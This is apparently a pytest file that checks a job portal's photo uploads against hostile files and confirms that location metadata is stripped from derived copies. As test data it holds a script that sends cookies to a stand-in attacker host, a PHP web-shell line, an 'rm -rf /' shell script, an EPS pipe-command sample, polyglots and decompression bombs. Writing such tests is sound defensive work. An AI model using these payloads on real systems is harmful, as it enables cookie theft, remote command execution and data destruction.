"""Hostile uploads (issue 8): oversize, wrong content behind a photo's name, polyglots, decompression
bombs, formats outside the allowlist, and location data in what we derive from a photo.

Every upload goes through the crew's real endpoint. What may be kept: JPEG, PNG, WebP and HEIC,
decided from the bytes, never the name. A kept photo's web copy and thumbnail (the only copies
customers ever get: the proof PDF and the email) carry no metadata at all; the original is kept
byte for byte as the record, shown only to the people who can see the job.
"""
import io
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

import pillow_heif
import pytest
from PIL import ExifTags, Image, PngImagePlugin
from werkzeug.datastructures import FileStorage
from werkzeug.test import stream_encode_multipart

from portal.billing.proof import render_proof
from portal.jobs.models import Photo
from portal.photos.derivatives import ensure_derivatives
from portal.photos.storage import get_storage
from portal.security import UPLOADED_CONTENT_POLICY
from tests import factories

NOT_A_PHOTO = "is not a photo (JPEG, PNG, WebP or HEIC)"
LATITUDE_XMP = b"40,26.767N"
GPS_MARKERS = (b"Exif\x00\x00", b"GPSLatitude", b"http://ns.adobe.com/xap", LATITUDE_XMP, b"12 Elm St")
XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="40,26.767N" '
       b'exif:GPSLongitude="79,58.933W"/></rdf:RDF></x:xmpmeta>')
HTML_PAYLOAD = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"


# --- files ----------------------------------------------------------------------------------------

def picture(fmt, size=(400, 300), colour="teal", **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, fmt, **options)
    return buffer.getvalue()


def gps_exif():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (40.0, 26.0, 46.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (79.0, 58.0, 56.0)
    return exif.tobytes()


def png_with_gps():
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    info.add_text("Comment", "shot at 12 Elm St")
    return picture("PNG", exif=gps_exif(), pnginfo=info)


def heic_with_gps():
    buffer = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (320, 240), "navy")).save(buffer, quality=40, exif=gps_exif(),
                                                                       xmp=XMP)
    return buffer.getvalue()


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("index.html", HTML_PAYLOAD)
    return buffer.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width, height):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def png_with_text_bomb():
    """A small PNG whose compressed text chunk inflates to 64 MB."""
    good = picture("PNG", size=(20, 20))
    bomb = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 * 1024 * 1024), 9))
    return good[:33] + bomb + good[33:]


def jpeg_claiming(width, height):
    """A real JPEG whose frame header is rewritten to claim width × height."""
    data = bytearray(picture("JPEG", size=(16, 16)))
    at = data.index(b"\xff\xc0")
    data[at + 5:at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_claiming(width, height):
    """An extended WebP whose canvas header claims width × height."""
    data = bytearray(picture("WEBP", size=(16, 16), exif=gps_exif()))  # with EXIF it takes the VP8X form
    at = data.index(b"VP8X")
    data[at + 12:at + 18] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


# Each: bytes that are not a photo we keep, whatever they are called.
NOT_PHOTOS = {
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (w) file\nshowpage\n",
    "PostScript": b"%!PS\n/Times-Roman findfont 12 scalefont setfont\nshowpage\n",
    "EPS with a binary header": b"\xc5\xd0\xd3\xc6" + b"\x00" * 28 + b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "PSD": b"8BPS\x00\x01" + b"\x00" * 6 + b"\x00\x03\x00\x00\x00\x10\x00\x00\x00\x10\x00\x08\x00\x03" + b"\x00" * 64,
    "TIFF (little-endian)": picture("TIFF"),
    "TIFF (big-endian)": b"MM\x00*" + picture("TIFF")[4:],
    "BMP": picture("BMP"),
    "GIF": picture("GIF"),
    "ICO": picture("ICO", size=(32, 32)),
    "PCX": picture("PCX"),
    "PPM": picture("PPM"),
    "SGI": picture("SGI"),
    "TGA": picture("TGA"),
    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n\x00\x00\x00\x14ftypjp2 " + b"\x00" * 40,
    "JPEG XL": b"\xff\x0a" + b"\x00" * 40,
    "AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 40,
    "SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    "HTML": HTML_PAYLOAD,
    "PDF": b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "ELF executable": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
    "Windows executable": b"MZ\x90\x00" + b"\x00" * 60,
    "ZIP / JAR": zip_bytes(),
    "GIFAR (GIF with a JAR after it)": picture("GIF") + zip_bytes(),
    "HTML with a JPEG after it": HTML_PAYLOAD + picture("JPEG"),
    "WMF": b"\xd7\xcd\xc6\x9a" + b"\x00" * 40,
    "empty": b"\x00",
}
# Each: starts like a photo we keep, but is not one, or is one too large to decode.
REFUSED_PHOTOS = {
    "JPEG start, then HTML": (b"\xff\xd8\xff\xe0" + HTML_PAYLOAD, "is damaged or incomplete"),
    "PNG signature, then HTML": (b"\x89PNG\r\n\x1a\n" + HTML_PAYLOAD, "is damaged or incomplete"),
    "PNG claiming 100,000 × 100,000": (png_claiming(100_000, 100_000), "has too many pixels"),
    "PNG claiming 1 × 4,000,000,000": (png_claiming(1, 4_000_000_000), "has too many pixels"),
    "JPEG claiming 65,500 × 65,500": (jpeg_claiming(65_500, 65_500), "has too many pixels"),
    "JPEG claiming 60,000 × 1,001": (jpeg_claiming(60_000, 1_001), "has too many pixels"),
    "WebP claiming 16,383 × 16,383": (webp_claiming(16_383, 16_383), None),  # too many pixels, or damaged
    "PNG with a 64 MB text bomb": (png_with_text_bomb(), None),
}
NAMES = ("photo.jpg", "photo.jpeg", "photo.png", "IMG_0001.HEIC", "photo.webp")


def upload(client, job, files):
    body, length, boundary = stream_encode_multipart(
        {"photos": [FileStorage(io.BytesIO(content), name) for name, content in files]}, use_tempfile=False)
    return client.htmx("POST", f"/crew/jobs/{job.id}/photos", input_stream=body, content_length=length,
                       content_type=f"multipart/form-data; boundary={boundary}")


def stored_files(app):
    return {path for path in Path(app.config["UPLOAD_DIR"]).rglob("*") if path.is_file()}


@pytest.fixture
def job(db, crew):
    return factories.job(crew=[crew], items=[("Labor", "1", 8500)])


@pytest.fixture
def crew_client(login, crew):
    return login(crew)


@pytest.fixture
def no_processes(monkeypatch):
    """Every process anything tries to start (Pillow's EPS plugin would start Ghostscript)."""
    started = []

    def refuse(*args, **kwargs):
        started.append(args[0] if args else kwargs.get("args"))
        raise OSError("no processes in this test")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    return started


def kept_photos(db, job):
    return db.session.scalars(db.select(Photo).where(Photo.job_id == job.id).order_by(Photo.id)).all()


# --- Oversize -------------------------------------------------------------------------------------

def test_a_photo_over_the_20_mb_limit_is_refused(app, db, job, crew_client):
    before = stored_files(app)
    oversize = picture("PNG", size=(64, 64)) + b"\x00" * (app.config["PHOTO_MAX_BYTES"] - 100)

    response = upload(crew_client, job, [("big.png", oversize + b"\x00" * 101)])

    assert response.status_code == 422 and "big.png is larger than 20 MB." in response.get_data(as_text=True)
    assert kept_photos(db, job) == [] and stored_files(app) == before


def test_a_request_over_the_request_limit_is_refused_whole(app, db, job, crew_client, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 1024 * 1024)
    before = stored_files(app)

    # Six photos of 400 KB each (trailing bytes, which a photo may carry): 2.4 MB against a 1 MB limit.
    response = upload(crew_client, job, [(f"p{number}.jpg", picture("JPEG", colour=(number * 40, 0, 0))
                                          + bytes(range(256)) * 1600) for number in range(6)])

    assert response.status_code == 413
    assert "That upload is too large." in response.get_data(as_text=True)
    assert kept_photos(db, job) == [] and stored_files(app) == before


# --- Wrong content, other formats, polyglots that are not photos ----------------------------------

def test_nothing_but_a_real_photo_is_kept_whatever_its_name(app, db, job, crew_client, no_processes, subtests):
    before = stored_files(app)
    tried = 0
    for kind, content in NOT_PHOTOS.items():
        for name in NAMES:
            with subtests.test(kind=kind, name=name):
                tried += 1
                response = upload(crew_client, job, [(name, content)])
                assert response.status_code == 422
                assert f"{name} {NOT_A_PHOTO}" in response.get_data(as_text=True)
    assert tried == len(NOT_PHOTOS) * len(NAMES)
    assert kept_photos(db, job) == [] and stored_files(app) == before
    assert no_processes == []  # Ghostscript, or anything else, was never started


def test_broken_photos_and_decompression_bombs_are_refused_before_decoding(app, db, job, crew_client, subtests):
    before = stored_files(app)
    for kind, (content, message) in REFUSED_PHOTOS.items():
        with subtests.test(kind=kind):
            response = upload(crew_client, job, [("photo.jpg", content)])
            page = response.get_data(as_text=True)
            assert response.status_code == 422
            if message:
                assert f"photo.jpg {message}" in page
            else:
                assert "photo.jpg has too many pixels" in page or "photo.jpg is damaged or incomplete" in page
    assert kept_photos(db, job) == [] and stored_files(app) == before


# --- Polyglots that are real photos ----------------------------------------------------------------

POLYGLOTS = {
    "JPEG + trailing HTML": lambda: picture("JPEG") + HTML_PAYLOAD,
    "JPEG + trailing ZIP/JAR": lambda: picture("JPEG") + zip_bytes(),
    "JPEG with HTML in its comment": lambda: picture("JPEG", comment=HTML_PAYLOAD),
    "PNG with HTML in a text chunk, ZIP after": lambda: picture(
        "PNG", pnginfo=_text_info("Comment", HTML_PAYLOAD.decode())) + zip_bytes(),
    "WebP + trailing HTML": lambda: picture("WEBP") + HTML_PAYLOAD,
}


def _text_info(key, value):
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def test_a_real_photo_carrying_a_payload_is_kept_but_never_served_as_anything_else(db, job, crew_client, subtests):
    for kind, make in POLYGLOTS.items():
        with subtests.test(kind=kind):
            content = make()
            assert upload(crew_client, job, [(f"{kind}.jpg", content)]).status_code == 200
            photo = kept_photos(db, job)[-1]
            ensure_derivatives(photo)

            with crew_client.get(f"/photos/{photo.id}") as original:
                assert original.get_data() == content  # the record, untouched
                assert original.mimetype == photo.content_type and original.mimetype.startswith("image/")
                assert original.headers["X-Content-Type-Options"] == "nosniff"  # never sniffed as HTML
                assert original.headers["Content-Security-Policy"] == UPLOADED_CONTENT_POLICY  # and if it were: inert
            for url in (f"/photos/{photo.id}/web", f"/photos/{photo.id}/thumb"):
                with crew_client.get(url) as derived:
                    data = derived.get_data()
                assert derived.mimetype == "image/jpeg" and data.endswith(b"\xff\xd9")
                assert b"<script" not in data and b"PK\x03\x04" not in data and b"<html" not in data


# --- Location data --------------------------------------------------------------------------------

WITH_GPS = {
    "JPEG with GPS EXIF and XMP": lambda: picture("JPEG", exif=gps_exif(), xmp=XMP, comment=b"shot at 12 Elm St"),
    "PNG with eXIf, XMP and a comment": png_with_gps,
    "WebP with EXIF and XMP": lambda: picture("WEBP", exif=gps_exif(), xmp=XMP),
    "HEIC with EXIF and XMP": heic_with_gps,
}


def test_no_derived_copy_carries_location_or_any_metadata(app, db, job, crew_client, subtests):
    for kind, make in WITH_GPS.items():
        with subtests.test(kind=kind):
            content = make()
            assert any(marker in content for marker in GPS_MARKERS)  # the upload does carry a location
            assert upload(crew_client, job, [(f"{kind}.img", content)]).status_code == 200
            photo = kept_photos(db, job)[-1]
            for key in ensure_derivatives(photo):
                data = get_storage().path(key).read_bytes()
                with Image.open(io.BytesIO(data)) as image:
                    assert image.format == "JPEG"
                    assert not image.getexif() and not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
                    assert not {"exif", "xmp", "comment", "icc_profile"} & set(image.info)
                for marker in GPS_MARKERS:
                    assert marker not in data, (key, marker)


def test_the_proof_pdf_and_the_email_thumbnails_carry_no_location(app, db, job, crew, crew_client):
    for make in WITH_GPS.values():
        assert upload(crew_client, job, [("site.img", make())]).status_code == 200
    from portal.audit.services import Actor
    from portal.billing.models import BillingTrigger
    from portal.jobs.services import complete_job

    complete_job(job, by=Actor.for_user(crew))
    db.session.commit()
    trigger = db.session.scalars(db.select(BillingTrigger).where(BillingTrigger.job_id == job.id)).one()

    pdf = render_proof(trigger)

    images = pdf_images(pdf)
    assert len(images) == len(WITH_GPS) + 1  # the four photos and the logo
    for data in [pdf, *images]:
        for marker in GPS_MARKERS:
            assert marker not in data, marker


def pdf_images(pdf):
    """Every image's stream as stored in the PDF, filters undone (a JPEG's stays the JPEG file)."""
    from pypdf import PdfReader

    found = []
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for ref in page["/Resources"].get("/XObject", {}).values():
            image = ref.get_object()
            if image["/Subtype"] == "/Image":
                found.append(image.get_data())
    return found


def test_the_original_keeps_its_location_for_the_record_and_only_job_viewers_get_it(
        db, job, crew_client, login, other_crew, office, partner):
    content = WITH_GPS["JPEG with GPS EXIF and XMP"]()
    assert upload(crew_client, job, [("site.jpg", content)]).status_code == 200
    photo = kept_photos(db, job)[-1]

    assert get_storage().path(photo.storage_key).read_bytes() == content  # its hash is in the proof fingerprint
    with login(office).get(f"/photos/{photo.id}") as seen:
        assert seen.status_code == 200 and seen.get_data() == content
    for outsider in (other_crew, partner):
        with login(outsider).get(f"/photos/{photo.id}") as refused:
            assert refused.status_code == 404
